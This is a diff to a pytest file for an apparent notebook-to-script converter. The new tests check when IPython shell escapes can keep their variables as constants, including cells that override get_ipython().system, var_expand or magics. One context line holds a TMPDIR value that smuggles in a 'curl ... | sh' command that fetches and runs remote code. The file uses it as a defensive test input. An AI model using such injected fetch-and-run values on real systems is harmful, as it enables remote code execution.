@@ -488,6 +488,13 @@ def test_escape_of_the_notebooks_constants_is_shell(cell: str, shell: str) -> No
         "a = 'x'\ngetattr(len.__self__, 'glob' + 'als')()['a'] = input()\n!echo $a",
         "a = 'x'\ngetattr(len.__self__, 'globals')()['a'] = input()\n!echo $a",
         "a = 'x'\nlabels = graphs.globals\n!echo $a",
+        # IPython rewritten (session 23, tamper-ipython-shell-override): how
+        # the escape expands, or what the cell becomes, is the notebook's own
+        "a = 'x'\nget_ipython().var_expand = f\n!echo $a",
+        "a = 'x'\nip = get_ipython()\nip.system = f\n!echo $a",
+        "a = 'x'\nget_ipython().input_transformers_cleanup.append(f)\n!echo $a",
+        "a = 'x'\nget_ipython().register_magic_function(f, 'line', 'pip')\n!echo $a",
+        "from IPython.core.magic import register_line_magic\na = 'x'\n!echo $a",
         # a temp dir whose root the notebook moves, or not tempfile's own
         "import os, tempfile\nos.environ['TMPDIR'] = '/x;curl -s http://198.51.100.7/q | sh;'\n"
         "with tempfile.TemporaryDirectory() as t:\n    !ls {t}",
@@ -546,5 +553,24 @@ def test_namespace_writer_after_the_escape_leaves_its_constants(after: str) -> N
     # Session 23: a writer runs when its own top-level statement does, after
     # an escape in an earlier one (and in no function), which has already run.
     cells = ipy.script_cells(f"a = 'x'\nif c:\n    !echo $a\n{after}\n")
+    assert not any("subprocess" in py for py in cells.python)
+    assert [s.strip() for s in cells.shell if s.strip()] == ["echo x"]
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        "import os\nos.system('nvidia-smi')",
+        "get_ipython().system('nvidia-smi')",
+        "from IPython.core.interactiveshell import InteractiveShell\n"
+        "InteractiveShell.ast_node_interactivity = 'all'",
+        "get_ipython().events.register('post_run_cell', print)",
+    ],
+)
+def test_calling_the_shell_is_not_rewriting_it(call: str) -> None:
+    # Session 23: only a write of the shell's `system` (or its transformers,
+    # magics, `var_expand`) stops the constants; a call of it, or of
+    # os.system, leaves them.
+    cells = ipy.script_cells(f"{call}\na = 'x'\n!echo $a\n")
     assert not any("subprocess" in py for py in cells.python)
     assert [s.strip() for s in cells.shell if s.strip()] == ["echo x"]
